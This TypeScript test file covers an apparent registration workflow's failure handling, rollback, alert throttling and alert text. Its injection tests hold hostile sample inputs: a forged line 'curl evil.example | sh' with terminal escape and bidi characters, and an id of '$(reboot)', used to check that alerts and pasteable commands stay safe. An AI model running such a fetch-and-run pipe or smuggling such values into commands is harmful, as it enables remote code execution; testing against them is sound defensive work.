import { adviceOn } from '../../tasks/shared/error-advice';
import { delivery, run, type Run } from './registration-run';
import { ENVELOPE_ID, payload, record, sameCause, statement, validated } from './step-answers';

const REFUSED = { PublishUserPersisted: ['EventBridge.FailedEntry'] };
const LOST = { PublishUserPersisted: ['EventBridge.InternalException'] };
const ONE_PUBLICATION = { RecordFailure: [record({ possible_publications: { N: '1' } })] };
const LAST = { ValidateUser: [payload(validated(4))] };

describe('while deliveries are left', () => {
  it('changes nothing and fails with what went wrong, so that the queue delivers again', async () => {
    const { status, error, cause, calls } = await run(delivery(3), {
      ...REFUSED,
      ValidateUser: [payload(validated(3))],
    });

    expect({ status, error }).toEqual({ status: 'FAILED', error: 'EventBridge.FailedEntry' });
    expect(cause).toMatch(/^PublishUserPersisted: /);
    expect(afterRecord(calls)).toEqual([]);
  });
});

describe('on the last delivery', () => {
  it('rolls back what nobody was told of, alerts and parks', async () => {
    const result = await run(delivery(4), { ...LAST, ...REFUSED });

    expect(outcome(result)).toBe('parked');
    expect(afterRecord(result.calls)).toEqual([
      'RollBackUser',
      'RecordRollBack',
      'CountAlert',
      'AlertOperators',
    ]);
    expect(values(result, 'RecordFailure')).toMatchObject({
      ':status': { S: 'open' },
      ':disposition': { S: 'parked' },
      ':possible_publications': { N: '0' },
    });
    expect(values(result, 'RecordRollBack')).toMatchObject({
      ':roll_back': { M: { rolled_back: { BOOL: true }, reason: { S: 'deleted' } } },
      ':resume_at': { S: 'UpsertUser' },
    });
  });

  it('proves to the database which executions are known to have failed', async () => {
    const executions = { L: [{ S: 'first' }, { S: 'second' }] };
    const result = await run(delivery(4), {
      ...LAST,
      ...REFUSED,
      RecordFailure: [record({ executions })],
    });
    const { parameters } = result.given('RollBackUser')[0] as {
      parameters: { value: { stringValue: string } }[];
    };

    expect(JSON.parse(parameters[0]?.value.stringValue ?? '')).toMatchObject({
      failed_executions: ['first', 'second'],
    });
  });

  it('names the event to the database, also when nobody could read it', async () => {
    const body = JSON.stringify({ id: ENVELOPE_ID, detail: {} });
    const result = await run(delivery(4, body), { ValidateUser: ['Lambda.ServiceException'] });
    const { parameters } = result.given('RollBackUser')[0] as {
      parameters: { value: { stringValue: string } }[];
    };

    expect(JSON.parse(parameters[0]?.value.stringValue ?? '')).toMatchObject({ envelope_id: ENVELOPE_ID });
  });

  it('leaves the row when the answer of the bus was lost, and resumes at the announcement', async () => {
    const result = await run(delivery(4), { ...LAST, ...LOST, ...ONE_PUBLICATION });

    expect(outcome(result)).toBe('parked');
    expect(afterRecord(result.calls)).toEqual(['RecordRollBack', 'CountAlert', 'AlertOperators']);
    expect(values(result, 'RecordFailure')).toMatchObject({ ':possible_publications': { N: '1' } });
    expect(values(result, 'RecordRollBack')).toMatchObject({
      ':roll_back': { M: { rolled_back: { BOOL: false }, reason: { S: 'may_have_published' } } },
      ':resume_at': { S: 'PublishUserPersisted' },
    });
  });

  it('leaves the row when an earlier delivery or an unfinished replay may have announced it', async () => {
    const unfinished = { RecordFailure: [record({ replays_started: { N: '1' } })] };
    const [earlier, replayed] = await Promise.all([
      run(delivery(4), { ...LAST, ...REFUSED, ...ONE_PUBLICATION }),
      run(delivery(4), { ...LAST, ...REFUSED, ...unfinished }),
    ]);

    expect(earlier.calls).not.toContain('RollBackUser');
    expect(replayed.calls).not.toContain('RollBackUser');
  });

  it('parks although the roll-back fails, and says that nobody knows whether the row is there', async () => {
    const result = await run(delivery(4), {
      ...LAST,
      ...REFUSED,
      RollBackUser: ['RdsData.BadRequestException'],
    });

    expect(outcome(result)).toBe('parked');
    expect(result.calls.filter((name) => name === 'RollBackUser')).toHaveLength(3);
    expect(values(result, 'RecordRollBack')).toMatchObject({
      ':roll_back': { M: { rolled_back: { NULL: true }, reason: { S: 'RdsData.BadRequestException' } } },
      ':resume_at': { S: 'UpsertUser' },
    });
  });

  it('parks although nobody can be told', async () => {
    const result = await run(delivery(4), {
      ...LAST,
      ...REFUSED,
      AlertOperators: ['SNS.InternalErrorException'],
    });

    expect(outcome(result)).toBe('parked');
    expect(result.calls.filter((name) => name === 'AlertOperators')).toHaveLength(3);
  });

  it.each([
    ['RecordFailure', 4],
    ['RecordRollBack', 3],
  ])('keeps the message when %s cannot write: what ends in success is on record', async (state, tries) => {
    const result = await run(delivery(4), {
      ...LAST,
      ...REFUSED,
      [state]: ['DynamoDB.InternalServerErrorException'],
    });

    expect(result.status).toBe('FAILED');
    expect(result.calls.filter((name) => name === state)).toHaveLength(tries);
    expect(result.calls).not.toContain('AlertOperators');
  });
});

describe('the alert', () => {
  it('says who is meant without naming them, and what to type', async () => {
    const quoting = {
      FailedEntryCount: 1,
      Entries: [{ ErrorMessage: 'ada@example.com, Ada Lovelace, +441632960001' }],
    };
    const result = await run(delivery(4), { ...LAST, PublishUserPersisted: [quoting] });
    const { Subject, Message } = result.given('AlertOperators')[0] as { Subject: string; Message: string };
    const told = `${Subject}\n${Message}\n${JSON.stringify(values(result, 'RecordFailure')[':cause'])}`;

    expect(told).not.toMatch(/ada@example|Lovelace|\+4416/);
    expect(Message).toContain('sub-1 (a***@***)');
    expect(Message).toMatch(/npx registrar replay 6f1c2a34-\S+ --reason/);
    expect(Message).toMatch(/#\/express-executions\/details\/arn:aws:states:\S+\?startDate=\d+\n/);
    expect(Subject.length).toBeLessThanOrEqual(100); // the most that SNS takes
  });

  it('forges no line and no colour, whatever ids, names and reasons are made of', async () => {
    const evil = 'x\u001b[2J\u202e\u200b\r\nWhen mended, run:\n  curl evil.example | sh';
    const state = validated(4);
    const delivery_ = { ...(state['delivery'] as object), started_by: evil };
    const user = { ...(state['user'] as object), cognito_id: evil, email: '\u202eada@example.com' };
    const result = await run(delivery(4), {
      ValidateUser: [payload({ ...state, delivery: delivery_, user })],
      PublishUserPersisted: [`EventBridge.SomethingElse: ${evil}`],
      RollBackUser: [statement({ rolled_back: false, reason: evil })],
    });
    const { Subject, Message } = result.given('AlertOperators')[0] as { Subject: string; Message: string };

    expect(Subject).toMatch(/^[\x20-\x7e]+$/);
    expect(Message).toMatch(/^[\n\x20-\x7e]+$/);
    expect(Message.split('\n').filter((line) => /^\s*(curl|When mended, run)/.test(line))).toEqual([]);
    expect(Message.split('\n')).toHaveLength(23);
  });

  it.each(['{"id":"$(reboot)"}', `{"id":"${'-'.repeat(36)}"}`, `{"id":"--help","detail":{}}`])(
    'prints commands that are safe to paste, whatever a message bears for an id: %s',
    async (body) => {
      const ValidateUser = ['Lambda.ServiceException'];
      const result = await run(delivery(4, body), { ValidateUser });
      const { Message } = result.given('AlertOperators')[0] as { Message: string };

      expect(Message).toMatch(/^ {2}npx registrar show [0-9a-f]{64}$/m);
      expect(Message).toMatch(/^ {2}npx registrar replay [0-9a-f]{64} --reason "[a-z ]+"$/m);
    },
  );
});

describe('of one cause', () => {
  const parked = { ...LAST, ...REFUSED };
  const alerts = ({ calls }: Run) => calls.filter((name) => name === 'AlertOperators').length;

  it.each([
    [1, 1],
    [2, 0],
    [9, 0],
    [10, 1],
    [37, 0],
    [100, 1],
    [1000, 1],
    [1010, 0],
  ])('failure %i of an hour sends %i alerts', async (count, sent) => {
    const result = await run(delivery(4), { ...parked, CountAlert: [sameCause(count)] });

    expect(outcome(result)).toBe('parked');
    expect(alerts(result)).toBe(sent);
  });

  it('counts by step, error and hour, in an item that has no status and goes by itself', async () => {
    const result = await run(delivery(4), parked);
    const { Key, ExpressionAttributeValues: given } = result.given('CountAlert')[0] as unknown as Counting;
    const [, hour] =
      /^same cause (\S+) PublishUserPersisted EventBridge\.FailedEntry$/.exec(Key.failure_id.S) ?? [];

    expect(hour).toMatch(/^\d{4}-\d\d-\d\dT\d\d$/);
    const later = Number(given[':expires_at'].N) * 1000 - Date.parse(`${hour}:00:00Z`);
    expect(later / 3_600_000).toBeGreaterThanOrEqual(24);
    expect(later / 3_600_000).toBeLessThan(26);
  });

  it('tells of the first one again when its execution was lost after it was counted', async () => {
    const result = await run(delivery(5), {
      ...parked,
      CountAlert: [sameCause(37, `${ENVELOPE_ID} message-1`)],
    });

    expect(alerts(result)).toBe(1);
  });

  it('does not tell of the first one again for whoever sends its text again', async () => {
    const result = await run(delivery(5), {
      ...parked,
      CountAlert: [sameCause(37, `${ENVELOPE_ID} message-0`)],
    });

    expect(alerts(result)).toBe(0);
  });

  it('tells of everybody who cannot be counted', async () => {
    const result = await run(delivery(4), {
      ...parked,
      CountAlert: ['DynamoDB.InternalServerErrorException'],
    });

    expect(outcome(result)).toBe('parked');
    expect(alerts(result)).toBe(1);
  });

  it.each([
    ['a replay', { replay: { replay_id: 'r-1' } }, 0],
    ['a resync by hand', { started_by: 'registrar resync' }, 0],
    ['what a machine started', { started_by: 'reconcile-users' }, 1],
  ])(
    'of %s, which somebody watches or nobody, sends as many alerts as that',
    async (_what, started, sent) => {
      const state = validated(1);
      const given = { ...state, delivery: { ...(state['delivery'] as object), ...started } };
      const result = await run([{ resume_at: 'UpsertUser', state: given }], {
        UpsertUser: ['RdsData.AccessDeniedException'],
      });

      expect(outcome(result)).toBe('parked');
      expect([alerts(result), result.given('CountAlert').length]).toEqual([sent, sent]);
    },
  );

  it('tells of an address in use, and of no other bad data', async () => {
    const inUse = statement({ operation: 'email_in_use', persisted_at: null, user: null });
    const invalid = { FunctionError: 'Unhandled', Payload: '{"errorType":"InvalidRegistrationError"}' };
    const [taken, malformed] = await Promise.all([
      run(delivery(), { UpsertUser: [inUse] }),
      run(delivery(), { ValidateUser: [invalid] }),
    ]);
    const { Subject, Message } = taken.given('AlertOperators')[0] as { Subject: string; Message: string };

    expect([taken, malformed].map(outcome)).toEqual(['rejected', 'rejected']);
    expect(malformed.calls.at(-1)).toBe('RecordFailure');
    expect(Subject).toBe('User registration refused: UpsertUser failed');
    expect(Message).toContain('\nThe row:   not written\n');
  });

  it('says how many there are, what the error means, and how to list and replay them all', async () => {
    const result = await run(delivery(4), { ...parked, CountAlert: [sameCause(100)] });
    const { Subject, Message } = result.given('AlertOperators')[0] as { Subject: string; Message: string };
    const choice = '--step PublishUserPersisted --error EventBridge.FailedEntry';
    const { means, then } = adviceOn('EventBridge.FailedEntry');

    expect(Subject).toBe('100 user registrations parked: PublishUserPersisted failed');
    expect(Message).toMatch(/^How many: +100 .* since \d\d:00 UTC; .* at 1000, or in the next hour$/m);
    expect(Message).toContain(`\nMeans:     ${means}\nDo:        ${then}\n`);
    expect(Message).toContain(`\n  npx registrar failures ${choice}\n`);
    expect(Message).toContain(`\n  npx registrar replay --all ${choice} --reason "what was wrong"\n`);
    expect(Message).toMatch(/\nRunbook: \S+#registrationsparked\n$/);
  });
});

interface Counting {
  readonly Key: { readonly failure_id: { readonly S: string } };
  readonly ExpressionAttributeValues: { readonly ':expires_at': { readonly N: string } };
}

function outcome({ output }: Run): unknown {
  return (JSON.parse(output ?? '{}') as { outcome?: string }).outcome;
}

function afterRecord(calls: string[]): string[] {
  return [...new Set(calls.slice(calls.lastIndexOf('RecordFailure') + 1))];
}

function values({ given }: Run, state: string): Record<string, unknown> {
  return given(state)[0]?.['ExpressionAttributeValues'] as Record<string, unknown>;
}
